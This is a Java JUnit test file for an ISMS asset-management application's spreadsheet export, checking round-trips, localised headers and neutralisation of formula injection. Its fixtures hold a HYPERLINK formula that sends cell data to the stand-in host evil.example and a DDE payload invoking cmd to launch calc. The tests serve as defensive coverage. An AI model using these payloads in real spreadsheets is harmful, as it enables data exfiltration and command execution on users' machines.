package jp.isms.asset.application;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import jp.isms.asset.domain.Asset;
import jp.isms.asset.domain.AssetChange;
import jp.isms.asset.domain.AssetType;
import jp.isms.asset.domain.AssetValuation;
import jp.isms.asset.domain.Classification;
import jp.isms.asset.infrastructure.StandardTabularFiles;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

class AssetExportTest {

    private static final String INJECTION = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    private final TabularFiles files = new StandardTabularFiles();
    private final AssetExport export = new AssetExport(files);
    private final AssetImport assetImport = new AssetImport(files, AssetValuation.DEFAULT, ImportLimits.DEFAULT);

    private static List<Asset> sample() {
        List<Asset> assets = new ArrayList<>();
        int n = 1;
        for (AssetType type : AssetType.values()) {
            for (Classification classification : Classification.values()) {
                assets.add(new Asset(String.format("A-%05d", n), new AssetChange(type.name() + " 資産 " + n, type,
                        classification, n % 3 + 1, (n + 1) % 3 + 1, (n + 2) % 3 + 1, "user" + n, "D" + n % 4,
                        n % 2 == 0 ? null : "本社 " + n + "F"), AssetValuation.DEFAULT));
                n++;
            }
        }
        assets.add(new Asset("A-09001", new AssetChange(INJECTION, AssetType.INFORMATION, Classification.PUBLIC, 1, 1,
                1, "top", "IT", "+81-3-1234-5678"), AssetValuation.DEFAULT));
        assets.add(new Asset("A-09002", new AssetChange("@SUM(1+1)*cmd|' /C calc'!A0", AssetType.INFORMATION,
                Classification.PUBLIC, 1, 1, 1, "top", "IT", "-1"), AssetValuation.DEFAULT));
        assets.add(new Asset("A-09003", new AssetChange("'=already quoted", AssetType.INFORMATION,
                Classification.PUBLIC, 1, 1, 1, "top", "IT", "カンマ, \"引用符\" と\n改行"), AssetValuation.DEFAULT));
        return assets;
    }

    private byte[] exported(List<Asset> assets, TabularFormat format, Locale locale) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        export.export(assets, format, locale, out);
        return out.toByteArray();
    }

    private static void assertSameAssets(List<Asset> actual, List<Asset> expected) {
        assertThat(actual).hasSameSizeAs(expected);
        for (int i = 0; i < expected.size(); i++) {
            assertThat(actual.get(i).getAssetNo()).isEqualTo(expected.get(i).getAssetNo());
            assertThat(actual.get(i).values()).isEqualTo(expected.get(i).values());
            assertThat(actual.get(i).getAssetValue()).isEqualTo(expected.get(i).getAssetValue());
        }
    }

    @Test
    void xlsxRoundTripGivesTheSameAssets() throws IOException {
        List<Asset> assets = sample();

        for (Locale locale : List.of(Locale.JAPANESE, Locale.ENGLISH)) {
            AssetImportResult result = assetImport.importFile("export.xlsx",
                    new ByteArrayInputStream(exported(assets, TabularFormat.XLSX, locale)));

            assertThat(result.errors()).isEmpty();
            assertSameAssets(result.assets(), assets);
        }
    }

    @Test
    void csvRoundTripGivesTheSameAssets() throws IOException {
        List<Asset> assets = sample();

        for (Locale locale : List.of(Locale.JAPANESE, Locale.ENGLISH)) {
            AssetImportResult result = assetImport.importFile("export.csv",
                    new ByteArrayInputStream(exported(assets, TabularFormat.CSV, locale)));

            assertThat(result.errors()).isEmpty();
            assertSameAssets(result.assets(), assets);
        }
    }

    @Test
    void xlsxHeaderIsInTheUsersLanguageAndFormulasAreNeutralised() throws IOException {
        byte[] file = exported(sample(), TabularFormat.XLSX, Locale.JAPANESE);

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(file))) {
            Sheet sheet = workbook.getSheetAt(0);
            assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("資産番号");
            assertThat(sheet.getRow(0).getCell(3).getStringCellValue()).isEqualTo("機密区分");
            Row injected = sheet.getRow(sheet.getLastRowNum() - 2);
            assertThat(injected.getCell(0).getStringCellValue()).isEqualTo("A-09001");
            Cell name = injected.getCell(1);
            assertThat(name.getCellType()).isEqualTo(CellType.STRING);
            assertThat(name.getStringCellValue()).isEqualTo("'" + INJECTION);
            assertThat(injected.getCell(10).getStringCellValue()).isEqualTo("'+81-3-1234-5678");
            Row second = sheet.getRow(sheet.getLastRowNum() - 1);
            assertThat(second.getCell(1).getStringCellValue()).startsWith("'@");
            assertThat(second.getCell(10).getStringCellValue()).isEqualTo("'-1");
            assertThat(sheet.getRow(sheet.getLastRowNum()).getCell(1).getStringCellValue())
                    .isEqualTo("''=already quoted");
            for (Row row : sheet) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                    if (cell.getCellType() == CellType.STRING) {
                        assertThat(cell.getStringCellValue()).doesNotStartWith("=").doesNotStartWith("+")
                                .doesNotStartWith("-").doesNotStartWith("@");
                    }
                }
            }
            assertThat(sheet.getRow(1).getCell(4).getCellType()).isEqualTo(CellType.NUMERIC);
        }
    }

    @Test
    void csvIsUtf8WithBomInTheUsersLanguageAndFormulasAreNeutralised() throws IOException {
        byte[] file = exported(sample(), TabularFormat.CSV, Locale.ENGLISH);

        assertThat(file).startsWith((byte) 0xEF, (byte) 0xBB, (byte) 0xBF);
        String text = new String(file, 3, file.length - 3, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\"Asset No.\",\"Asset name\",\"Type\",\"Classification\"");
        assertThat(text).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"")
                .contains("\"'+81-3-1234-5678\"").contains("\"'@SUM(1+1)").contains("\"'-1\"")
                .contains("\"''=already quoted\"").doesNotContain(",\"=").doesNotContain(",\"+").doesNotContain(",\"@");
        assertThat(text).contains("\"Strictly confidential\"").doesNotContain("極秘");
    }
}
